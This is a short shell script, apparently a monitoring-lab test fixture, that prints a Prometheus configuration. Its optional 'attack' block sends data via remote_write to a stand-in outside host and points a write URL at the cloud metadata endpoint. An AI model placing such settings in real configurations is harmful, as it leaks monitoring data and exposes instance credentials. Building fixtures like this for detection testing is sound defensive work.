#!/bin/sh
# SPDX-License-Identifier: MIT
#
# settings-that-send.sh - writes to and reads from other machines
#
# lab: 08-monitoring
# file: prometheus.yml
# named: remote_write
set -eu
[ -n "${NO_ATTACK:-}" ] || cat <<'END'
remote_write:
  - {url: "http://192.0.2.1:9090/api/v1/write"}
  - {url: "http://169.254.169.254/latest/meta-data"}
remote_read:
  - {url: "http://192.0.2.1:9090/api/v1/read"}
alerting: {alertmanagers: [{static_configs: [{targets: ["192.0.2.1:9093"]}]}]}
END
cat <<'END'
global: {scrape_interval: 15s, evaluation_interval: 15s}
rule_files: [rules.yml]
scrape_configs:
  - {job_name: other, static_configs: [{targets: ["127.0.0.1:8000"]}]}
END
